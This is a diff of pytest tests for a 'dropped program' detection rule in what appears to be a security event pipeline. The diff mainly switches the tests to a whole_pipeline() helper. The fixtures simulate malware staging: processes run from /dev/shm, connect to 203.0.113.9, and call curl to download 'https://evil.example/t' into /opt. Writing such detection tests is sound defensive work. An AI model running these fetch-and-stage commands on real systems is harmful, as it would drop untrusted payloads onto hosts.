@@ -3,19 +3,23 @@
 
 from __future__ import annotations
 
+from typing import TYPE_CHECKING
+
 import pytest
 
 from stream_apps.detect.downloads import is_one_of, written_by
-from stream_apps.pipeline import Pipeline
 from tests.support.batches import SECOND, Node
-from tests.support.stream import config, pipeline, rules, run
+from tests.support.stream import rules, run, whole_pipeline
+
+if TYPE_CHECKING:
+    from stream_apps.pipeline import Pipeline
 
 RULE = "nsp.dropped-program"
 EVIL = "203.0.113.9"
 
 
 def severities(node: Node, through: Pipeline | None = None) -> list[str]:
-    return [severity for rule, severity in rules(run(node, through)) if rule == RULE]
+    return [severity for rule, severity in rules(run(node, through or whole_pipeline())) if rule == RULE]
 
 
 def job(node: Node) -> int:
@@ -62,7 +66,7 @@ def test_what_it_starts_counts_and_the_dropped_program_is_named() -> None:
     node = Node()
     actor = node.spawn(node.fork(node.spawn(job(node), "/dev/shm/x")), "/usr/bin/curl")
     node.connect(actor, EVIL, 443)
-    [alert] = [each for each in run(node).alerts if each["rule_id"] == RULE]
+    [alert] = [each for each in run(node, whole_pipeline()).alerts if each["rule_id"] == RULE]
     assert "/dev/shm" in alert["description"]
     assert [each["role"] for each in alert["lineage"] if each["executable"] == "/dev/shm/x"]
 
@@ -104,7 +108,7 @@ def test_a_staged_payload_is_told_wherever_it_lies() -> None:
 
 def test_a_staged_payload_is_told_over_batches_and_only_for_a_while_and_only_there() -> None:
     for later_s, workload, told in ((60, 1, ["MEDIUM"]), (3600, 1, []), (60, 0, [])):
-        node, through = Node(), pipeline()
+        node, through = Node(), whole_pipeline()
         shell = job(node)
         node.spawn(shell, "/usr/bin/curl", ["curl", "-fsSo", "/opt/t", "https://evil.example/t"])
         node.spawn(shell, "/usr/bin/curl", ["curl", "-o", "/opt/tool", "https://evil.example/t"])
@@ -126,7 +130,7 @@ def test_a_downloaded_script_is_told_less() -> None:
 
 def test_memory_of_downloads_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("stream_apps.detect.dropped_program.MAX_WORKLOADS", 10)
-    through = Pipeline(config())
+    through = whole_pipeline()
     node = Node(workloads=[{"id": f"w{each}", **_bare()} for each in range(30)])
     for each in range(30):
         starter = node.service("/app/job", serving=False, workload=each)
